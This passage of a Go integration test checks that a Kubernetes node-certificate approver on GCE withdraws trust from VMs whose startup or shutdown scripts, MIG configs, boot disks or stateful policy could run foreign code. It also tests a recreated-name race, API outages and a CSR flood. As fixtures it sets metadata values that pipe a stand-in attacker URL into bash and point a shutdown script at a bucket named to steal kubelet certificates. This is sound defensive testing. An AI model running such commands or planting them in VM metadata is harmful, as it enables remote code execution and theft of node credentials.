	// Labelled Nodes are checked again. The autoscaler's account, which may
	// update the MIG, adds a per-instance config with its own startup-script
	// to the VM approved and labelled above (applied at its next restart):
	// the Node loses the label, so the workloads and policies that select
	// on it no longer trust it, and does not get it back. The instance of
	// another labelled Node is deleted (a scale-down): that Node keeps the
	// label, which the node garbage collector needs to delete it once it
	// is NotReady. The autoscaler's Node, unchanged, keeps its label.
	e.renewer.adminCreate(t, `{"apiVersion":"v1","kind":"Node","metadata":{"name":"renew-work-du01"},"spec":{"providerID":"`+gceID(e, zone, "renew-work-du01")+`"}}`)
	eventually(t, 30*time.Second, "the approver labelling renew-work-du01", func() string {
		if l := label("renew-work-du01"); l != "work" {
			return fmt.Sprintf("renew-work-du01 %q", l)
		}
		return ""
	})
	f.addConfig(zone, mig, "renew-work-ab12", map[string]string{"startup-script": "curl -s https://attacker.example/x | bash"})
	f.remove(zone, "renew-work-du01")
	added := time.Now()
	eventually(t, 30*time.Second, "the approver removing the label of renew-work-ab12, whose MIG now holds a per-instance config for it", func() string {
		if l := label("renew-work-ab12"); l != "" {
			return fmt.Sprintf("renew-work-ab12 %q", l)
		}
		return ""
	})
	t.Logf("renew-work-ab12 lost %s %v after the per-instance config was added (Nodes checked again every %v)", model.VerifiedGroupLabel, time.Since(added).Round(time.Millisecond), recheck)
	// The config is deleted (its VM's metadata never changed): the Node
	// does not get the label back, since the VM may have booted with it.
	f.removeConfig(zone, mig, "renew-work-ab12")
	// A labelled Node whose instance's metadata an update changed loses
	// the label.
	e.renewer.adminCreate(t, `{"apiVersion":"v1","kind":"Node","metadata":{"name":"renew-work-ci01"},"spec":{"providerID":"`+gceID(e, zone, "renew-work-ci01")+`"}}`)
	eventually(t, 30*time.Second, "the approver labelling renew-work-ci01, made by createInstances", func() string {
		if l := label("renew-work-ci01"); l != "work" {
			return fmt.Sprintf("renew-work-ci01 %q", l)
		}
		return ""
	})
	f.setMetadata(zone, "renew-work-ci01", "startup-script-url", "https://attacker.example/x")
	eventually(t, 30*time.Second, "the approver removing the label of renew-work-ci01, whose metadata now has a startup-script-url", func() string {
		if l := label("renew-work-ci01"); l != "" {
			return fmt.Sprintf("renew-work-ci01 %q", l)
		}
		return ""
	})
	// A labelled Node whose VM got another boot disk loses the label.
	e.renewer.adminCreate(t, `{"apiVersion":"v1","kind":"Node","metadata":{"name":"renew-work-ci02"},"spec":{"providerID":"`+gceID(e, zone, "renew-work-ci02")+`"}}`)
	eventually(t, 30*time.Second, "the approver labelling renew-work-ci02", func() string {
		if l := label("renew-work-ci02"); l != "work" {
			return fmt.Sprintf("renew-work-ci02 %q", l)
		}
		return ""
	})
	f.setBootDisk(zone, "renew-work-ci02", "renew-work-ci02-other")
	eventually(t, 30*time.Second, "the approver removing the label of renew-work-ci02, which boots from another disk", func() string {
		if l := label("renew-work-ci02"); l != "" {
			return fmt.Sprintf("renew-work-ci02 %q", l)
		}
		return ""
	})
	time.Sleep(3 * recheck) // more checks
	for name, want := range map[string]string{"renew-work-ab12": "", "renew-work-du01": "work", "renew-ca-a1b2": "ca", "renew-work-ci01": "", "renew-work-ci02": ""} {
		if l := label(name); l != want {
			t.Errorf("after the re-checks, %s has %s=%q; want %q", name, model.VerifiedGroupLabel, l, want)
		}
	}

	// The MIG's all-instances config gets a startup-script: a VM made
	// since runs it, and one made before but asking now is refused too,
	// since the MIG may apply the config to it at any update.
	f.setAllInstances(zone, mig, map[string]string{model.MetadataStartupScript: foreign})
	var aic []want
	for _, name := range []string{"renew-work-ai01", "renew-work-ai02"} {
		id := f.set(zone, name, fakeInstance{Status: "RUNNING", Created: time.Now().Add(-5 * time.Second), MIG: mig})
		if name == "renew-work-ai02" {
			f.setMetadata(zone, name, model.MetadataStartupScript, f.templates[f.migTemplate[zone+"/"+mig]].Metadata[model.MetadataStartupScript])
		}
		vm := newVM(t)
		f.writeGuest(zone, name, model.KubeletKeyAttribute, vm.published(id))
		aic = append(aic, want{createCSR(t, joiner, vm.csr(t, name), model.KubeletClientSigner), name, "Denied", ""})
	}
	aic[0].message = "instance us-central1-a/renew-work-ai01 has metadata startup-script other than that of its instance template"
	aic[1].message = "the all-instances config of MIG us-central1-a/renew-work-us-central1-a sets metadata over the template"
	decided(aic)

	// Without the all-instances config, the MIG's stateful policy comes to
	// preserve its VMs' boot disks: a VM it recreates keeps the disk its
	// previous VM ran (and wrote) instead of one made from the template.
	f.setAllInstances(zone, mig, nil)
	f.setStateful(zone, mig, true)
	joinNow := func(name string) want {
		id := f.set(zone, name, fakeInstance{Status: "RUNNING", Created: time.Now().Add(-5 * time.Second), MIG: mig})
		vm := newVM(t)
		f.writeGuest(zone, name, model.KubeletKeyAttribute, vm.published(id))
		return want{createCSR(t, joiner, vm.csr(t, name), model.KubeletClientSigner), name, "Denied", ""}
	}
	sf := joinNow("renew-work-sf01")
	sf.message = "the stateful policy of MIG us-central1-a/renew-work-us-central1-a preserves disks or addresses across recreation"
	decided([]want{sf})
	f.setStateful(zone, mig, false)

	// The group's next template (a rollout): the first VM made from it
	// that the approver checks, its template read for the first time,
	// runs another startup-script. Its metadata is compared with the
	// template's all the same.
	next := "renew-work-20261202093000123400000002"
	f.mu.Lock()
	cur := f.templates[f.migTemplate[zone+"/"+mig]]
	f.templates[next] = fakeTemplate{Labels: cur.Labels, Metadata: maps.Clone(cur.Metadata)}
	f.migTemplate[zone+"/"+mig] = next
	f.mu.Unlock()
	ntID := f.set(zone, "renew-work-nt01", fakeInstance{Status: "RUNNING", Created: time.Now().Add(-5 * time.Second), MIG: mig})
	f.setMetadata(zone, "renew-work-nt01", model.MetadataStartupScript, foreign)
	ntVM := newVM(t)
	f.writeGuest(zone, "renew-work-nt01", model.KubeletKeyAttribute, ntVM.published(ntID))
	decided([]want{{createCSR(t, joiner, ntVM.csr(t, "renew-work-nt01"), model.KubeletClientSigner), "renew-work-nt01", "Denied",
		"instance us-central1-a/renew-work-nt01 has metadata startup-script other than that of its instance template " + next}})

	// The project's metadata gets a shutdown script: the guest agent runs
	// it on every VM whose own metadata sets none, as the group templates
	// do not. A fresh VM is denied, and the autoscaler's Node, labelled
	// above, loses its label and does not get it back once the script is
	// gone (its VM may have stopped and run it meanwhile); a VM made after
	// is approved.
	shutdownURL := "gs://attacker-bucket/steal-kubelet-cert.sh"
	f.setProjectMetadata("shutdown-script-url", &shutdownURL)
	ps := joinNow("renew-work-ps01")
	ps.message = "the metadata of project renew-project sets shutdown-script-url, which the guest agent runs as root on every VM whose own metadata sets no shutdown script"
	decided([]want{ps})
	eventually(t, 30*time.Second, "the approver removing the label of renew-ca-a1b2, whose project now has a shutdown script", func() string {
		if l := label("renew-ca-a1b2"); l != "" {
			return fmt.Sprintf("renew-ca-a1b2 %q", l)
		}
		return ""
	})
	f.setProjectMetadata("shutdown-script-url", nil)
	after := joinNow("renew-work-ok01")
	after.decision, after.message = "Approved", "instance projects/renew-project/zones/us-central1-a/instances/renew-work-ok01 is RUNNING"
	decided([]want{after})
	time.Sleep(3 * recheck) // more checks
	if l := label("renew-ca-a1b2"); l != "" {
		t.Errorf("renew-ca-a1b2 got %s=%s back once the project's shutdown script was removed", model.VerifiedGroupLabel, l)
	}
	if strings.Contains(logs.String(), "ya29.") || strings.Contains(logs.String(), joiner.Token) {
		t.Error("the approver logged a token")
	}
}

// testRecreated runs the recreated-name race against the running approver.
func (e *approverEnv) testRecreated(t *testing.T, f *fakeCompute, joiner *testcp.User, zone, mig string) {
	const name = "renew-work-rc01"
	oldVM, recreated := newVM(t), newVM(t)
	oldID := f.set(zone, name, fakeInstance{Status: "RUNNING", Created: time.Now().Add(-90 * time.Second), MIG: mig})
	newID := f.set(zone, name, fakeInstance{Status: "RUNNING", Created: time.Now().Add(-5 * time.Second), MIG: mig})
	if oldID == newID {
		t.Fatal("the recreated instance kept its id")
	}
	// What a read of the old instance's guest attribute would give.
	f.writeGuest(zone, name, model.KubeletKeyAttribute, oldVM.published(oldID))
	thief := createCSR(t, joiner, csrRequest(t, name), model.KubeletClientSigner)
	stale := createCSR(t, joiner, oldVM.csr(t, name), model.KubeletClientSigner)
	time.Sleep(4 * time.Second) // passes of the approver
	for _, c := range []string{thief, stale} {
		if d := decision(e.csr(t, c)); d != nil && d.Type == certificatesv1.CertificateApproved {
			t.Errorf("recreated %s: CSR %s approved before the new VM published its key: %s", name, c, d.Message)
		}
	}
	f.writeGuest(zone, name, model.KubeletKeyAttribute, recreated.published(newID))
	own := createCSR(t, joiner, recreated.csr(t, name), model.KubeletClientSigner)
	for c, wantType := range map[string]certificatesv1.RequestConditionType{thief: certificatesv1.CertificateDenied, stale: certificatesv1.CertificateDenied, own: certificatesv1.CertificateApproved} {
		var d *certificatesv1.CertificateSigningRequestCondition
		eventually(t, 30*time.Second, "CSR "+c+" for the recreated "+name+" decided", func() string {
			if d = decision(e.csr(t, c)); d == nil {
				return "pending"
			}
			return ""
		})
		if d.Type != wantType {
			who := map[string]string{thief: "the thief's", stale: "the old VM's", own: "the recreated VM's"}[c]
			t.Errorf("recreated %s: %s CSR was %s (%s); want %s", name, who, d.Type, d.Message, wantType)
		}
	}
}

// testUnreadable files a fresh VM's CSR while instances.get answers 503
// for its instance: the approver leaves it pending and approves it once
// the Compute API answers.
func (e *approverEnv) testUnreadable(t *testing.T, f *fakeCompute, joiner *testcp.User, zone, mig string) {
	const name = "renew-work-un01"
	vm := newVM(t)
	id := f.set(zone, name, fakeInstance{Status: "RUNNING", Created: time.Now().Add(-10 * time.Second), MIG: mig})
	f.writeGuest(zone, name, model.KubeletKeyAttribute, vm.published(id))
	f.mu.Lock()
	f.unreadable[zone+"/"+name] = true
	f.mu.Unlock()
	own := createCSR(t, joiner, vm.csr(t, name), model.KubeletClientSigner)
	eventually(t, 30*time.Second, "the approver asking the Compute API for "+name, func() string {
		f.mu.Lock()
		defer f.mu.Unlock()
		if slices.Contains(f.asked, zone+"/"+name) {
			return ""
		}
		return "not asked"
	})
	time.Sleep(3 * time.Second) // more passes
	if d := decision(e.csr(t, own)); d != nil {
		t.Fatalf("the CSR of %s was %s while the Compute API could not serve its instance: %s", name, d.Type, d.Message)
	}
	f.mu.Lock()
	delete(f.unreadable, zone+"/"+name)
	f.mu.Unlock()
	eventually(t, 30*time.Second, "the CSR of "+name+" decided once the Compute API answers", func() string {
		d := decision(e.csr(t, own))
		if d == nil {
			return "pending"
		}
		if d.Type != certificatesv1.CertificateApproved {
			t.Fatalf("the CSR of %s was %s: %s", name, d.Type, d.Message)
		}
		return ""
	})
}

// floodSize is the number of CSRs of the VM's own join token that
// testFlood files just before the VM's CSR: more than the approver's
// PER_TOKEN (64) CSRs of one token a pass, so the VM's CSR is read in the
// second pass or, on a machine so loaded that a pass reads fewer than the
// 37 others, a later one, each at most PASS_SECONDS (20 s) plus the call
// in flight, and the pauses between. What the join needs is its approval
// within the join's TLS-bootstrap timeout (bound): the kubelet gives up
// then.
const floodSize = 100

// testFlood files floodSize CSRs as a holder of the join token would, at
// once (names of no instance, names of no MIG, duplicates of the VM's
// name with other keys), then the VM's own, and measures how long the
// approver takes to approve it and to deny the flood.
func (e *approverEnv) testFlood(t *testing.T, f *fakeCompute, joiner *testcp.User, zone, mig string, logs *syncBuffer, floodBound time.Duration) {
	const name = "renew-work-fl00"
	vm := newVM(t)
	id := f.set(zone, name, fakeInstance{Status: "RUNNING", Created: time.Now().Add(-10 * time.Second), MIG: mig})
	f.writeGuest(zone, name, model.KubeletKeyAttribute, vm.published(id))
	cfg, err := clientcmd.BuildConfigFromFlags("", joiner.Kubeconfig)
	if err != nil {
		t.Fatal(err)
	}
	cfg.QPS, cfg.Burst = 200, 200
	cs, err := kubernetes.NewForConfig(cfg)
	if err != nil {
		t.Fatal(err)
	}
	create := func(request []byte) (string, error) {
		c, err := cs.CertificatesV1().CertificateSigningRequests().Create(t.Context(), &certificatesv1.CertificateSigningRequest{
			ObjectMeta: metav1.ObjectMeta{GenerateName: "node-csr-"},
			Spec: certificatesv1.CertificateSigningRequestSpec{Request: request, SignerName: model.KubeletClientSigner,
				Usages: []certificatesv1.KeyUsage{certificatesv1.UsageDigitalSignature, certificatesv1.UsageClientAuth}},
		}, metav1.CreateOptions{})
		if err != nil {
			return "", err
		}
		return c.Name, nil
	}
	requests := make([][]byte, floodSize)
	for i := range requests {
		switch i % 5 {
		case 0:
			requests[i] = csrRequest(t, name) // the VM's name, another key
		case 1:
			requests[i] = csrRequest(t, fmt.Sprintf("flood-%03d", i)) // no MIG's name
		default:
			requests[i] = csrRequest(t, fmt.Sprintf("renew-work-f%03d", i)) // no instance
		}
	}
	compute := func() int {
		f.mu.Lock()
		defer f.mu.Unlock()
		return len(f.asked)
	}
	before := compute()
	vmReads := func() int {
		f.mu.Lock()
		defer f.mu.Unlock()
		n := 0
		for _, a := range f.asked[before:] {
			if a == zone+"/"+name {
				n++
			}
		}
		return n
	}
	flood := make([]string, floodSize)
	var wg sync.WaitGroup
	start := time.Now()
	errs := make(chan error, floodSize)
	for w := range 8 {
		wg.Go(func() {
			for i := w; i < floodSize; i += 8 {
				n, err := create(requests[i])
				if err != nil {
					errs <- err
					return
				}
				flood[i] = n
			}
		})
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Fatalf("filing the flood: %v", err)
	}
	filed := time.Since(start)
	own, err := create(vm.csr(t, name))
	if err != nil {
		t.Fatal(err)
	}
	asked := time.Now()
	eventually(t, floodBound, "the VM's CSR approved behind the flood", func() string {
		if d := decision(e.csr(t, own)); d == nil {
			return "pending"
		} else if d.Type != certificatesv1.CertificateApproved {
			t.Fatalf("the VM's CSR was %s: %s", d.Type, d.Message)
		}
		return ""
	})
	approved := time.Since(asked)
	var decided time.Duration
	eventually(t, 3*time.Minute, "the flood decided", func() string {
		list, err := cs.CertificatesV1().CertificateSigningRequests().List(t.Context(), metav1.ListOptions{})
		if err != nil {
			return err.Error()
		}
		byName := map[string]*certificatesv1.CertificateSigningRequest{}
		for i := range list.Items {
			byName[list.Items[i].Name] = &list.Items[i]
		}
		for _, n := range flood {
			c := byName[n]
			if c == nil {
				return "CSR " + n + " gone"
			}
			d := decision(c)
			if d == nil {
				return "CSR " + n + " pending"
			}
			if d.Type != certificatesv1.CertificateDenied {
				t.Fatalf("flood CSR %s was %s: %s", n, d.Type, d.Message)
			}
		}
		decided = time.Since(start)
		return ""
	})
	calls := compute() - before
	t.Logf("flood of %d CSRs filed in %v; the VM's CSR, filed after it, approved %v later (bound %v); all %d denied %v after the first was filed; %d Compute API calls for them",
		floodSize, filed.Round(time.Millisecond), approved.Round(time.Millisecond), floodBound, floodSize, decided.Round(time.Millisecond), calls)
	// Each instance is read once a pass, however many CSRs name it:
	// reading it for each CSR would get the VM's instance once for each of
	// the 21 CSRs naming it (the flood's 20 and its own), and once a pass
	// gets it once for each pass that reads any of them. (The total of
	// calls depends on how many passes the flood took, so on the machine's
	// load: a loaded pass reads fewer CSRs.)
	if n := vmReads(); n >= floodSize/5+1 {
		t.Errorf("the flood read the VM's instance %d times for its %d CSRs; want fewer (each instance read once a pass)", n, floodSize/5+1)
	} else {
		t.Logf("the VM's instance was read %d times for the %d CSRs naming it", n, floodSize/5+1)
	}
	if n := strings.Count(logs.String(), "pending CSRs: "); n == 0 {
		t.Errorf("the approver's log does not say it capped the pending CSRs of the token")
	}
}
